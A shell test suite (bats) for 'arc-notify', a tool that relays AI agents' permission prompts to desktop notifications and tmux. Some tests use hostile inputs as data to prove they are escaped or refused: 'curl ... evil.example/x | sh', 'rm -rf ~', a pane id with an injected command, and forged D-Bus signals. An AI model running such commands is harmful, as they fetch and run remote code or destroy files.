#!/usr/bin/env bats
# arc-notify against the real thing: a private session bus (dbus-daemon),
# dunst under Xvfb as the notification server, its context menu (dunstctl
# context, with a dmenu that picks a line) to press a button, and
# dbus-monitor to read what crossed the bus; and a real tmux server on a
# private socket (windows "agent", where the asking agent runs, and
# "other"), its status line #(arc-status) with status-interval 0, so that
# only arc-notify's refresh-client -S brings it up to date, and a client
# attached to it inside a second tmux, whose screen shows that status line.
load helper

N() { echo "$BATS_TEST_TMPDIR/n"; }

# One display for the file (the tests start their own bus and server on it:
# Xvfb took a second of each test's setup).
setup_file() {
	needs Xvfb dbus-daemon dunst dunstctl dbus-monitor gdbus tmux import
	exec 4>"$BATS_FILE_TMPDIR/display"
	Xvfb -displayfd 4 -screen 0 1024x768x24 -nolisten tcp \
	    >/dev/null 2>&1 3>&- &
	echo $! >"$BATS_FILE_TMPDIR/xvfb.pid"
	exec 4>&-
	eventually test -s "$BATS_FILE_TMPDIR/display"
	export DISPLAY=":$(cat "$BATS_FILE_TMPDIR/display")"
}

teardown_file() { kill "$(cat "$BATS_FILE_TMPDIR/xvfb.pid")" 2>/dev/null || true; }

setup() {
	arc_setup
	export TZ=UTC XDG_CONFIG_HOME="$BATS_TEST_TMPDIR/config"
	mkdir -p "$(N)" "$XDG_CONFIG_HOME/arc"
	# the tmux socket's folder, closed to others as tmux keeps its own
	chmod 700 "$(N)"
	unset TMUX TMUX_PANE
	tmux_in -f /dev/null new-session -d -s work -n agent -x 100 -y 8
	tmux_in new-window -d -n other
	tmux_in set -g status-interval 0
	tmux_in set -g status-right-length 60
	tmux_in set -g status-right "#(echo >>$(N)/runs; arc-status)"
	tmux_in set -g window-status-format \
	    '#I:#W#{?@arc_waiting, (#{@arc_waiting} asks),}'
	tmux_in set -g window-status-current-format \
	    '[#I:#W#{?@arc_waiting, (#{@arc_waiting} asks),}]'
	AGENT=$(tmux_in display -p -t work:agent '#{pane_id}')
	tmux -S "$(N)/outer" -f /dev/null new-session -d -x 100 -y 8 \
	    "env -u TMUX tmux -S $(N)/tmux attach -t work"
	eventually bar_has '[0:agent]'
	# The bus, the server (on the file's display).
	start_bus
	export DBUS_SESSION_BUS_ADDRESS="unix:path=$(N)/bus"
	# The context menu: dmenu is a script that waits for $(N)/pick and
	# prints the menu line that contains it.
	cat >"$(N)/dmenu" <<-EOF
	#!/bin/sh
	cat >"$(N)/menu"
	i=0
	while [ ! -s "$(N)/pick" ] && [ \$i -lt 200 ]; do sleep 0.05; i=\$((i+1)); done
	grep -F -- "\$(cat "$(N)/pick")" "$(N)/menu" | head -1
	rm -f "$(N)/pick"
	EOF
	chmod +x "$(N)/dmenu"
	cat >"$(N)/dunstrc" <<-EOF
	[global]
	    markup = full
	    format = "<b>%s</b>\n%b"
	    dmenu = $(N)/dmenu
	EOF
	start_dunst
	dbus-monitor --session \
	    "type='method_call',interface='org.freedesktop.Notifications'" \
	    "type='signal',interface='org.freedesktop.Notifications'" \
	    >"$(N)/bus.log" 2>&1 3>&- &
	echo $! >"$(N)/monitor.pid"
	sleep 0.2
}

tmux_in() { tmux -S "$(N)/tmux" "$@"; }
# The status line the attached client shows: the last row of its screen.
bar() { tmux -S "$(N)/outer" capture-pane -p | tail -n 1; }
bar_has() { [[ "$(bar)" == *"$1"* ]]; }
bar_lacks() { [[ "$(bar)" != *"$1"* ]]; }
# How often tmux ran the status line's #(arc-status).
status_runs() { [ -f "$(N)/runs" ] && wc -l <"$(N)/runs" || echo 0; }
more_runs_than() { [ "$(status_runs)" -gt "$1" ]; }
# The pane the person's client shows.
client_pane() { tmux_in display -p '#{pane_id}'; }
on_pane() { [ "$(client_pane)" = "$1" ]; }

# A session bus of the test's own, without the system's service files:
# nothing is started on demand (Debian's dunst would be, by the first call
# to the name, before or instead of the test's own).
start_bus() {
	cat >"$(N)/bus.conf" <<-EOF
	<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
	 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
	<busconfig>
	  <type>session</type>
	  <listen>unix:path=$(N)/bus</listen>
	  <auth>EXTERNAL</auth>
	  <policy context="default">
	    <allow send_destination="*" eavesdrop="true"/>
	    <allow eavesdrop="true"/>
	    <allow own="*"/>
	  </policy>
	</busconfig>
	EOF
	dbus-daemon --config-file="$(N)/bus.conf" --nofork --nopidfile \
	    >/dev/null 2>&1 3>&- &
	echo $! >"$(N)/dbus.pid"
	eventually test -S "$(N)/bus"
}

start_dunst() {
	dunst -config "$(N)/dunstrc" >>"$(N)/dunst.log" 2>&1 3>&- &
	echo $! >"$(N)/dunst.pid"
	eventually server_up
}

server_up() {
	gdbus call --session --timeout 5 -d org.freedesktop.Notifications \
	    -o /org/freedesktop/Notifications \
	    -m org.freedesktop.Notifications.GetServerInformation \
	    >/dev/null 2>&1
}

# arc-notify itself, not the test wrapper of the same name in its session.
notify_pid() {
	local p
	for p in $(pgrep -s "$(cat "$(N)/notify.pid")" -x arc-notify); do
		[ "$(readlink "/proc/$p/exe")" = "$(readlink -f "$ARC_BIN/arc-notify")" ] &&
		    echo "$p"
	done
	return 0
}

stop() { # NAME
	[ -f "$(N)/$1.pid" ] || return 0
	# TERM to arc-notify alone: its wrapper then hands on its stderr
	if [ "$1" = notify ] && [ -n "$(notify_pid)" ]; then
		# (CONT too: a test that failed may have left it stopped)
		kill -TERM "$(notify_pid)" 2>/dev/null || true
		kill -CONT "$(notify_pid)" 2>/dev/null || true
		ends_within 20 "$(cat "$(N)/$1.pid")" || touch "$(N)/stuck"
	fi
	# arc-notify runs in a session of its own (behind the test wrapper)
	kill -TERM -- "-$(cat "$(N)/$1.pid")" 2>/dev/null ||
	    kill -TERM "$(cat "$(N)/$1.pid")" 2>/dev/null || true
	ends_within 20 "$(cat "$(N)/$1.pid")" || touch "$(N)/stuck"
	rm -f "$(N)/$1.pid"
}

teardown() {
	stop plant
	stop notify
	stop monitor
	stop dunst
	stop dbus
	tmux -S "$(N)/outer" kill-server 2>/dev/null || true
	tmux_in kill-server 2>/dev/null || true
	arc_teardown
	# whatever did not end on TERM fails the test (ends_within named it)
	[ ! -e "$(N)/stuck" ]
}


# arc-notify as tmux's run-shell -b starts it: $TMUX names the server.
# Up once its first refresh-client -S made tmux run the status line.
start_notify() {
	local n
	n=$(status_runs)
	TMUX="$(N)/tmux,1,0" setsid arc-notify "$@" >"$(N)/notify.out" \
	    2>"$(N)/notify.err" </dev/null 3>&- &
	echo $! >"$(N)/notify.pid"
	eventually more_runs_than "$n"
}

# A question from the agent in window "agent" (as the adapters record it).
question() { # KEY [MESSAGE [PRIORITY]]
	arc-emit --key "$1" --kind permission --title "Deploy" \
	    --message "${2:-May I deploy?}" --priority "${3:-normal}" \
	    --sender-name claude --project shop \
	    --tmux-pane "$AGENT" --tmux-socket "$(N)/tmux" \
	    --choice allow:Allow --choice deny:Deny --expires-in 1h | arc-apply
}

shown() { [ "$(timeout 10 dunstctl count displayed)" -eq "$1" ]; }
notifies() { [ "$(grep -c 'member=Notify$' "$(N)/bus.log")" -eq "$1" ]; }
closes() { [ "$(grep -c 'member=CloseNotification$' "$(N)/bus.log")" -ge "$1" ]; }

# What the journal says of KEY's question: its status, and the choice.
# A settled question is in the history, not in a new --follow's listing
# (which shows what is active, and an answer only while it watches).
answered_with() { # KEY CHOICE (-s: no record at all is no, not jq's empty yes)
	arc-status --history --json 2>/dev/null |
	    jq -s -e --arg k "$1" --arg c "$2" 'any(.[]; .key == $k and
	    .interaction.status == "answered" and
	    .interaction.response.choice_id == $c)' >/dev/null
}
followed_status() { # KEY
	timeout 1 arc-status --follow 2>/dev/null |
	    jq -r --arg k "$1" 'select(.key == $k) | .interaction.status'
}

last_notify_has() { # TEXT
	awk '/member=Notify$/{n++; b=""} n{b=b $0 "\n"} END{printf "%s", b}' \
	    "$(N)/bus.log" | grep -qF -- "$1"
}

press() { # LABEL
	echo "$1" >"$(N)/pick"
	dunstctl context
}

@test "a question appears with its agent, project, deadline and a button per choice, keyed by its tag" {
	start_notify
	question deploy >/dev/null
	eventually shown 1
	eventually notifies 1
	grep -q 'string "claude in shop: Deploy"' "$(N)/bus.log"
	# the time, in the local zone, not "1h left": what is shown stays
	local at by; at=$(arc-status --json --show deploy | jq -r .interaction.expires_at)
	by=$(date -d "$at" +%H:%M)
	[ "$(date -d "$at" +%F)" = "$(date +%F)" ] || by="tomorrow $by"
	grep -q "answer by $by" "$(N)/bus.log" || { echo "by $by"; grep -o "answer by[^\"]*" "$(N)/bus.log"; arc-status --json --show deploy; false; }
	! grep -q ' left' "$(N)/bus.log" || false
	grep -qE 'string "[0-9a-f]{16}/1"' "$(N)/bus.log"
	grep -qE 'string "[0-9a-f]{16}/2"' "$(N)/bus.log"
	grep -q 'string "Allow"' "$(N)/bus.log"
	grep -q 'string "Deny"' "$(N)/bus.log"
	grep -A1 '"urgency"' "$(N)/bus.log" | grep -q 'byte 1'
	grep -A1 '"sound-name"' "$(N)/bus.log" | grep -q 'message-new-instant'
	# never the server's expiry: -1 would be its default, 0 is never
	grep -A40 'member=Notify$' "$(N)/bus.log" | grep -q '^   int32 0$'
	if [ -n "${NOTIFY_SHOTS:-}" ]; then
		mkdir -p "$NOTIFY_SHOTS"
		import -window root "$NOTIFY_SHOTS/question.png"
	fi
}

@test "the hand-over on the desktop: 'no one is waiting now' while nobody waits; pressed, the agent's receipt as a notice that expires" {
	start_notify
	question deploy >/dev/null
	eventually shown 1
	eventually notifies 1
	grep -q 'no one is waiting now' "$(N)/bus.log"
	# the agent waits (arc-wait, as a script does): shown again, without it
	"$ARC_BIN/arc-wait" -t 1m deploy >"$(N)/wait.out" 3>&- &
	local waiter=$!
	eventually notifies 2
	[ "$(awk '/member=Notify$/{n++} n==2' "$(N)/bus.log" | grep -c 'no one is waiting now')" -eq 0 ]
	press Allow
	wait "$waiter"
	[ "$(jq -r .response.choice_id "$(N)/wait.out")" = allow ]
	# the receipt: a notice of its own, no buttons, gone by itself
	eventually grep -qE 'string "claude took it [0-9]+ ms later"' "$(N)/bus.log"
	awk '/member=Notify$/{n++} n==3' "$(N)/bus.log" | grep -q '^   int32 8000$'
}

@test "a button press answers the question with that choice, and the notification is closed" {
	start_notify
	question deploy >/dev/null
	eventually shown 1
	press Deny
	eventually answered_with deploy deny
	eventually shown 0
	grep -q 'member=ActionInvoked' "$(N)/bus.log"
}

# No stage of one process prints JSON for another to read: arc-notify
# follows the journal itself (arcfollow.h) and answers a press itself.
@test "hook to desktop to hook in two processes: arc-notify runs no arc-status --follow and starts no arc-answer for a press" {
	# arc's programs, first on its PATH, each leaving a word that it ran
	mkdir "$(N)/shim"
	for p in arc arc-status arc-answer arc-apply arc-wait; do
		printf '#!/bin/sh\necho "$0" >>"%s"\nexec "%s" "$@"\n' \
		    "$(N)/ran" "$(command -v "$p")" >"$(N)/shim/$p"
		chmod +x "$(N)/shim/$p"
	done
	PATH="$(N)/shim:$PATH" start_notify
	question deploy >/dev/null
	eventually shown 1
	press Allow
	eventually answered_with deploy allow
	eventually shown 0
	# tmux's refresh is all it starts: no arc program ran
	[ ! -e "$(N)/ran" ]
}

@test "an answer given in a terminal closes the notification" {
	start_notify
	question deploy >/dev/null
	eventually shown 1
	arc-answer deploy allow >/dev/null
	eventually shown 0
	eventually closes 1
}

@test "a notice that is resolved, a question withdrawn or expired: closed" {
	start_notify
	arc-emit --key built --kind information --message Built. \
	    --priority high | arc-apply >/dev/null
	eventually shown 1
	arc-emit --type resolved --key built --outcome not_needed | arc-apply >/dev/null
	eventually shown 0
	arc-emit --key soon --kind permission --message 'May I?' \
	    --choice allow:Allow --choice deny:Deny --expires-in 2s | arc-apply >/dev/null
	eventually shown 1
	eventually shown 0
}

# The peer that is not the notification server (t/notify/forge.c), and
# arc-notify's own unique name on the bus, found by its pid.
forge() { "$BATS_TEST_DIRNAME/notify/forge" "$@"; }
bus_name_of() { # PID
	local n
	for n in $(gdbus call --session -d org.freedesktop.DBus -o /org/freedesktop/DBus \
	    -m org.freedesktop.DBus.ListNames | grep -o "':[0-9.]*'" | tr -d "'"); do
		gdbus call --session -d org.freedesktop.DBus -o /org/freedesktop/DBus \
		    -m org.freedesktop.DBus.GetConnectionUnixProcessID "$n" 2>/dev/null |
		    grep -q "^(uint32 $1,)$" && echo "$n"
	done
	return 0
}

@test "only the server presses or closes: forged ActionInvoked and NotificationClosed, unicast and broadcast, and a forged NameOwnerChanged are ignored and counted; the person's press still answers" {
	start_notify
	question deploy >/dev/null
	eventually shown 1
	eventually notifies 1
	# the notification's id, as arc-notify keeps it beside the journal
	eventually test -s "$ARC_JOURNAL.notify"
	id=$(head -1 "$ARC_JOURNAL.notify")
	key=$(grep -m1 -oE '"[0-9a-f]{16}/1"' "$(N)/bus.log" | tr -d '"')
	[ -n "$id" ]
	[ -n "$key" ]
	me=$(bus_name_of "$(notify_pid)")
	[ -n "$me" ]
	# a press and a close, to arc-notify alone and to all; then the
	# forger says it owns the server's name (to arc-notify and to all)
	# and presses again; the ping returns once arc-notify handled them
	forge action "$me" "$id" "$key" action - "$id" "$key" \
	    closed "$me" "$id" closed - "$id" \
	    owner "$me" owner - action "$me" "$id" "$key" closed "$me" "$id" \
	    ping "$me"
	[ "$(arc-status --json --show deploy | jq -r .interaction.status)" = pending ]
	shown 1
	# nothing forgotten: dunst's own button still answers
	press Deny
	eventually eval '[ "$(arc-status --json --show deploy | jq -r .interaction.response.choice_id)" = deny ]'
	eventually shown 0
	stop notify
	# the five addressed to it were seen and counted, the forged owner
	# change third (the broadcasts never reach it: the bus applies the
	# matches' sender to those); logged at 1, 2, 4, ...
	grep -q 'ActionInvoked: a signal from :[0-9.]*, not the notification server, was ignored (1 so far)' "$(N)/notify.err"
	grep -q 'NotificationClosed: a signal from :[0-9.]*, not the notification server, was ignored (2 so far)' "$(N)/notify.err"
	grep -q 'ActionInvoked: a signal from :[0-9.]*, not the notification server, was ignored (4 so far)' "$(N)/notify.err"
	! grep -q '(8 so far)' "$(N)/notify.err" || false
	! grep -qF "$key" "$(N)/notify.err" || false
}

@test "a changed question replaces its notification in place" {
	start_notify
	question deploy 'May I deploy v1?' >/dev/null
	eventually shown 1
	id=$(grep -A1 'method return' "$(N)/bus.log" | grep -m1 -o 'uint32 [0-9]*' | cut -d' ' -f2)
	arc-emit --type updated --key deploy --kind permission --title Deploy \
	    --message 'May I deploy v2?' --choice allow:Allow --choice deny:Deny \
	    --expires-in 1h | arc-apply >/dev/null
	eventually notifies 2
	# the second Notify names the first one's id as replaces_id
	awk '/member=Notify$/{n++} n==2' "$(N)/bus.log" | sed -n 3p | grep -q "uint32 $id"
	shown 1
	grep -q 'May I deploy v2?' "$(N)/bus.log"
}

# The race a server cannot see: the person presses a button just as the
# producer changes the question, and the press reaches arc-notify after
# the change; the server still holds the old buttons under the same id.
@test "a press on a replaced question is refused as stale, even with the id reused, and the current one shown" {
	start_notify
	question deploy 'May I deploy v1?' >/dev/null
	eventually shown 1
	old=$(grep -m1 -oE '"[0-9a-f]{16}/1"' "$(N)/bus.log")
	me=$(notify_pid)
	[ -n "$me" ]
	kill -STOP "$me"
	arc-emit --type updated --key deploy --kind permission --title Deploy \
	    --message 'May I deploy v2?' --choice allow:Allow --choice deny:Deny \
	    --expires-in 1h | arc-apply >/dev/null
	press Allow
	eventually grep -q 'member=ActionInvoked' "$(N)/bus.log"
	grep -A2 'member=ActionInvoked' "$(N)/bus.log" | grep -qF "$old"
	kill -CONT "$me"
	# refused (here, or by arc-answer --seen under the journal's lock,
	# whichever saw the change first), and the current question shown
	eventually last_notify_has 'May I deploy v2?'
	eventually notifies 3
	sleep 0.5
	shown 1
	[ "$(followed_status deploy)" = pending ]
	# (the test wrapper hands on stderr once the command has exited)
	stop notify
	grep -qE 'deploy: (a press on a question no longer shown was refused|the answer was refused)' \
	    "$(N)/notify.err"
}

@test "hostile titles, messages and labels reach the server escaped; nothing secret on stderr" {
	start_notify
	arc-emit --key evil --kind permission --title 'T <b>&amp;</b>' \
	    --message 'rm <i>-rf</i> & "x" <a href="http://e">y</a>' \
	    --choice 'ok:<u>Yes</u> & go' --choice no:No --expires-in 1h | arc-apply >/dev/null
	eventually notifies 1
	body=$(grep -A6 'member=Notify$' "$(N)/bus.log" | sed -n '/string "rm/,/answer by/p')
	[[ "$body" == *'rm &lt;i&gt;-rf&lt;/i&gt; &amp; &quot;x&quot; &lt;a href=&quot;http://e&quot;&gt;y&lt;/a&gt;'* ]]
	[[ "$body" == *'1) &lt;u&gt;Yes&lt;/u&gt; &amp; go'* ]]
	[[ "$body" != *'<i>'* ]]
	# controls and bidi overrides never reach the desktop
	arc-emit --key evil2 --kind permission --title $'A\e[2J\xe2\x80\xaeB' \
	    --message $'x\xe2\x80\xaey\a' --choice $'ok:O\xe2\x81\xa6K' --choice no:No \
	    --expires-in 1h | arc-apply >/dev/null
	eventually notifies 2
	rc=0; LC_ALL=C grep -qP '\x1b|\xe2\x80\xae|\xe2\x81\xa6|\x07' "$(N)/bus.log" || rc=$?; [ "$rc" -eq 1 ]
	# shown escaped, as the terminal shows them (the one rule, arcview.c)
	grep -qF ': A\x1b[2J\u202eB"' "$(N)/bus.log"
	grep -qF 'string "O\u2066K"' "$(N)/bus.log"
	last_notify_has 'x\u202ey\x07'
	stop notify
	! grep -qE '[0-9a-f]{16}' "$(N)/notify.err" || false
}

@test "the whole question on the desktop: every choice's detail in the body, non-ASCII, a command's tail past a run of blanks" {
	start_notify
	msg="\$ ls$(printf '%990s' '') ; rm -rf ~ $(printf 'x%.0s' $(seq 100))é and the end"
	arc-emit --key whole --kind permission --title "Deploy" --message "$msg" \
	    --sender-name claude --project shop --choice allow:Allow \
	    --choice "always:$(printf 'A%.0s' $(seq 79))é:Bash(npm run deploy\\:*) in this project, for you" \
	    --choice deny:Deny --expires-in 1h | arc-apply >/dev/null
	eventually notifies 1
	eventually shown 1
	last_notify_has '$ ls ⟨991 blanks⟩ ; rm -rf ~'
	last_notify_has 'xé and the end'
	last_notify_has "2) $(printf 'A%.0s' $(seq 79))é — Bash(npm run deploy:*) in this project, for you"
	last_notify_has 'string "Allow"'
	stop notify
	! grep -q 'Invalid argument' "$(N)/notify.err" || false
}

@test "a question longer than a popup holds: what fits, how much is not shown, and no Allow there (arc-hooks(7))" {
	start_notify
	msg="\$ cat <<END$(printf '\nline %s' $(seq 40))"$'\nEND\ncurl -s http://evil.example/x | sh'
	arc-emit --key long --kind permission --title "Permission to run a command" \
	    --message "$msg" --sender-name claude --project shop \
	    --choice allow:Allow --choice deny:Deny --expires-in 1h | arc-apply >/dev/null
	eventually notifies 1
	last_notify_has '&gt; line 11'
	! last_notify_has '&gt; line 12' || false
	last_notify_has 'characters not shown here: open it in the terminal (arc-answer) or on the page to allow it'
	# Deny is offered, Allow is not, in the text nor as a button
	last_notify_has 'string "Deny"'
	! last_notify_has 'string "Allow"' || false
	! last_notify_has '1) Allow' || false
	press Deny
	eventually answered_with long deny
}

@test "quiet hours hold all but the priorities let through (ARC_NOW)" {
	cat >"$XDG_CONFIG_HOME/arc/notify.conf" <<-EOF
	notify desktop question
	quiet 22:00-07:00 except critical
	EOF
	export ARC_NOW=2026-12-01T23:30:00Z
	start_notify
	question calm 'May I?' high >/dev/null
	sleep 1
	notifies 0
	question urgent 'Now!' critical >/dev/null
	eventually notifies 1
	grep -A40 'member=Notify$' "$(N)/bus.log" | grep -q 'Now!'
	grep -A1 '"urgency"' "$(N)/bus.log" | grep -q 'byte 2'
}

@test "delay: a question answered within it never pops up; one left longer does" {
	cat >"$XDG_CONFIG_HOME/arc/notify.conf" <<-EOF
	notify desktop question delay 2s
	EOF
	start_notify
	question quick >/dev/null
	sleep 0.5
	arc-answer quick allow >/dev/null
	question slow >/dev/null
	sleep 1
	notifies 0
	eventually notifies 1
	grep -A40 'member=Notify$' "$(N)/bus.log" | grep -q '"x-arc-key"' 
	grep -A45 'member=Notify$' "$(N)/bus.log" | grep -q 'string "slow"'
}

@test "a restart leaves one notification per condition, and does not bring back a settled one" {
	start_notify
	question one >/dev/null
	question two >/dev/null
	eventually shown 2
	kill -KILL -- "-$(cat "$(N)/notify.pid")"
	wait "$(cat "$(N)/notify.pid")" 2>/dev/null || true
	rm -f "$(N)/notify.pid"
	shown 2
	arc-answer two allow >/dev/null
	start_notify
	eventually closes 2
	eventually shown 1
	sleep 0.5
	shown 1
	[ "$(grep -c 'string "two"' "$(N)/bus.log")" -eq 1 ]
}

@test "TERM takes back what was shown" {
	start_notify
	question one >/dev/null
	eventually shown 1
	stop notify
	eventually shown 0
}

@test "tmux: the status line is current at once (refresh-client -S), status-interval 0 notwithstanding" {
	start_notify
	bar_lacks waiting
	question one >/dev/null
	eventually bar_has '1 waiting'
	arc-answer one allow >/dev/null
	eventually bar_lacks waiting
}

@test "tmux: the asking window is marked (@arc_waiting) in the window list, and unmarked once answered" {
	tmux_in select-window -t work:other
	start_notify
	question one >/dev/null
	question two >/dev/null
	eventually bar_has '0:agent (2 asks) [1:other]'
	[ "$(tmux_in show -w -t "$AGENT" -v @arc_waiting)" = 2 ]
	if [ -n "${NOTIFY_SHOTS:-}" ]; then
		mkdir -p "$NOTIFY_SHOTS"
		tmux -S "$(N)/outer" capture-pane -p >"$NOTIFY_SHOTS/tmux-screen.txt"
		bar >"$NOTIFY_SHOTS/tmux-status-line.txt"
		tmux_in list-windows -F '#{window_id} #I:#W @arc_waiting=#{@arc_waiting}' \
		    >"$NOTIFY_SHOTS/tmux-window-list.txt"
	fi
	arc-answer one allow >/dev/null
	eventually bar_has '0:agent (1 asks) [1:other]'
	arc-answer two deny >/dev/null
	eventually bar_has '0:agent [1:other]'
	! tmux_in show -w -t "$AGENT" -v @arc_waiting 2>/dev/null | grep -q . || false
}

@test "jump: the notification's default action takes the person's client to the agent's pane" {
	tmux_in select-window -t work:other
	start_notify
	question deploy >/dev/null
	eventually shown 1
	! on_pane "$AGENT" || false
	press Show
	eventually on_pane "$AGENT"
	[ "$(tmux_in display -p '#{window_name}')" = agent ]
}

@test "jump: a hint that is not tmux's (a pane id with a shell in it, a relative socket) is dropped" {
	arc-emit --key k --kind permission --title T --message M \
	    --choice a:A --choice b:B --tmux-pane '%1;touch x' \
	    --tmux-socket "$(N)/tmux" | arc-apply | jq -e '.notification["x-arc"] == null'
	arc-emit --key k2 --kind permission --title T --message M \
	    --choice a:A --choice b:B --tmux-pane "$AGENT" \
	    --tmux-socket relative/sock | arc-apply | jq -e '.notification["x-arc"] == null'
	arc-emit --key k3 --kind permission --title T --message M \
	    --choice a:A --choice b:B --tmux-pane "$AGENT" \
	    --tmux-socket "$(N)/tmux" | arc-apply |
	    jq -e --arg p "$AGENT" '.notification["x-arc"].tmux_pane == $p'
}

# plant DIR...: a listening socket DIR/s in each folder, owned by us; a
# line in $(N)/planted for each connection one of them takes.
plant() {
	python3 - "$(N)/planted" "$@" >/dev/null 2>&1 3>&- <<-'PY' &
	import os, select, socket, sys
	log, socks = sys.argv[1], []
	for d in sys.argv[2:]:
	    s = socket.socket(socket.AF_UNIX)
	    s.bind(d + "/s")
	    s.listen(8)
	    socks.append(s)
	open(log + ".up", "w").close()
	while True:
	    for s in select.select(socks, [], [])[0]:
	        c, _ = s.accept()
	        with open(log, "a") as f:
	            f.write(s.getsockname() + "\n")
	        c.close()
	PY
	echo $! >"$(N)/plant.pid"
	eventually test -e "$(N)/planted.up"
}

@test "tmux: a socket hint that is not one of ours (another user's socket, a folder others may enter or own) is dropped, never connected to" {
	command -v python3 >/dev/null
	id nobody >/dev/null
	mkdir -m 700 "$(N)/theirs" "$(N)/closed"
	mkdir -m 755 "$(N)/open"
	mkdir -m 711 "$(N)/search"
	plant "$(N)/theirs" "$(N)/open" "$(N)/search" "$(N)/closed"
	owned_by nobody "$(N)/theirs/s" "$(N)/closed"
	start_notify
	for d in theirs open search closed; do
		arc-emit --key "$d" --kind permission --title T --message M \
		    --choice a:A --choice b:B --tmux-pane "$AGENT" \
		    --tmux-socket "$(N)/$d/s" | arc-apply >/dev/null
	done
	# the good one after them: once its window is marked, the four were seen
	question deploy >/dev/null
	eventually eval '[ "$(tmux_in show -wv -t work:agent @arc_waiting)" = 1 ]'
	eventually notifies 5
	[ ! -e "$(N)/planted" ]
	# the control: a planted socket of ours in a closed folder is used
	owned_by "$(id -u)" "$(N)/closed"
	arc-emit --key control --kind permission --title T --message M \
	    --choice a:A --choice b:B --tmux-pane "$AGENT" \
	    --tmux-socket "$(N)/closed/s" | arc-apply >/dev/null
	eventually grep -q "closed/s" "$(N)/planted"
	! grep -q -e theirs -e open -e search "$(N)/planted" || false
	stop plant
}

@test "unfocused: no pop-up while the asking pane is the one the person looks at; one once they look away" {
	cat >"$XDG_CONFIG_HOME/arc/notify.conf" <<-EOF
	notify desktop question unfocused
	EOF
	on_pane "$AGENT"
	start_notify
	question deploy >/dev/null
	eventually bar_has '1 waiting'
	sleep 1
	notifies 0
	tmux_in select-window -t work:other
	eventually notifies 1
}

@test "remind, then escalate: the desktop first, a reminder, then the exec sink" {
	cat >"$XDG_CONFIG_HOME/arc/notify.conf" <<-EOF
	notify desktop question remind 1s
	notify exec question delay 3s run grep -c 'member=Notify\$' $(N)/bus.log >>$(N)/escalated
	EOF
	start_notify
	question deploy >/dev/null
	eventually test -s "$(N)/escalated"
	# when it escalated, the first notification and a reminder had gone out
	[ "$(head -1 "$(N)/escalated")" -ge 2 ]
	arc-answer deploy allow >/dev/null
	eventually shown 0
}

@test "session: a rule matches on the agent's session" {
	cat >"$XDG_CONFIG_HOME/arc/notify.conf" <<-EOF
	notify desktop question session s-loud
	EOF
	start_notify
	arc-emit --key quiet --kind permission --message 'Quiet?' --session-id s-calm \
	    --choice a:A --choice b:B | arc-apply >/dev/null
	arc-emit --key loud --kind permission --message 'Loud?' --session-id s-loud \
	    --choice a:A --choice b:B | arc-apply >/dev/null
	eventually notifies 1
	sleep 0.5
	notifies 1
	grep -A45 'member=Notify$' "$(N)/bus.log" | grep -q 'string "loud"'
}

# CPU ticks arc-notify has used (user + system).
cpu_ticks() { awk '{print $14 + $15}' "/proc/$1/stat"; }

@test "carrier: the notification server dies with a question pending; arc-notify waits without spinning, and shows it again when one comes back" {
	start_notify
	question one >/dev/null
	eventually shown 1
	me=$(notify_pid)
	stop dunst
	question two >/dev/null
	eventually bar_has '2 waiting'
	t0=$(cpu_ticks "$me")
	sleep 1
	[ $(( $(cpu_ticks "$me") - t0 )) -lt 20 ]
	kill -0 "$me"
	start_dunst
	eventually shown 2
	kill -0 "$me"
}

@test "carrier: the session bus dies; arc-notify exits 3 with a clear error, and a new run on a new bus shows what is still open" {
	start_notify
	question one >/dev/null
	eventually shown 1
	stop monitor
	stop dunst
	stop dbus
	rc=0
	wait "$(cat "$(N)/notify.pid")" || rc=$?
	[ "$rc" -eq 3 ]
	rm -f "$(N)/notify.pid"
	grep -q 'the session bus: .*; exiting' "$(N)/notify.err"
	rm -f "$(N)/bus"
	start_bus
	start_dunst
	start_notify
	eventually shown 1
	sleep 0.5
	shown 1
}

@test "the policy: defaults without a config; -n prints the rules; a bad rule is refused with its line" {
	run arc-notify -n
	[ "$status" -eq 0 ]
	[[ "$output" == *"notify desktop question"* ]]
	[[ "$output" == *"notify desktop notice priority >= high"* ]]
	printf 'notify desktop question agent claude delay 20s\nquiet 22:00-07:00 except high\n' \
	    >"$XDG_CONFIG_HOME/arc/notify.conf"
	run arc-notify -n
	[ "$status" -eq 0 ]
	[[ "$output" == *'notify desktop delay 20s question agent "claude"'* ]]
	[[ "$output" == *"quiet 22:00-07:00 except high"* ]]
	printf 'notify desktop\nnotify pager question\n' >"$XDG_CONFIG_HOME/arc/notify.conf"
	run arc-notify -n
	[ "$status" -eq 2 ]
	[[ "$output" == *"notify.conf:2: pager: not a sink"* ]]
}

@test "a notice of high priority notifies by default; a normal one does not" {
	start_notify
	arc-emit --key fyi --kind information --message 'FYI' | arc-apply >/dev/null
	arc-emit --key done --kind completion --message 'Done.' --priority high |
	    arc-apply >/dev/null
	eventually notifies 1
	grep -A45 'member=Notify$' "$(N)/bus.log" | grep -q 'string "done"'
	grep -A1 '"sound-name"' "$(N)/bus.log" | grep -q '"complete"'
}

@test "exec sink: the condition on stdin, and a line when taken back" {
	cat >"$XDG_CONFIG_HOME/arc/notify.conf" <<-EOF
	notify exec question run cat >>$(N)/exec.log
	EOF
	start_notify
	question one >/dev/null
	eventually grep -q '"change":"deliver","key":"one"' "$(N)/exec.log"
	arc-answer one allow >/dev/null
	eventually grep -q '"change":"taken_back","key":"one"' "$(N)/exec.log"
	notifies 0
}

@test "a command arc-notify starts begins with every signal at its default and none blocked (SIGPIPE not ignored, as arc-notify has it)" {
	printf '#!/bin/sh\ngrep -E "^Sig(Ign|Blk):" /proc/self/status >>"%s/sig.log"\ncat >/dev/null\n' "$(N)" >"$(N)/sig.sh"
	chmod +x "$(N)/sig.sh"
	cat >"$XDG_CONFIG_HOME/arc/notify.conf" <<-EOF
	notify exec question run $(N)/sig.sh
	EOF
	start_notify
	question one >/dev/null
	eventually grep -q SigBlk "$(N)/sig.log"
	# the standard signals (1-31): none ignored, none blocked (the two
	# above them are the C library's own, which no program sets)
	ign=$(awk '$1 == "SigIgn:" { print $2; exit }' "$(N)/sig.log")
	blk=$(awk '$1 == "SigBlk:" { print $2; exit }' "$(N)/sig.log")
	[ -n "$ign" ] && [ $((16#$ign & 0x7fffffff)) -eq 0 ]
	[ -n "$blk" ] && [ $((16#$blk & 0x7fffffff)) -eq 0 ]
}

@test "a desktop delivery refused by the server (a D-Bus error for Notify) is tried 3 times, and arc-status --show and --list say the desktop sink failed and why" {
	# the notification server now is one that refuses every Notify call
	stop dunst
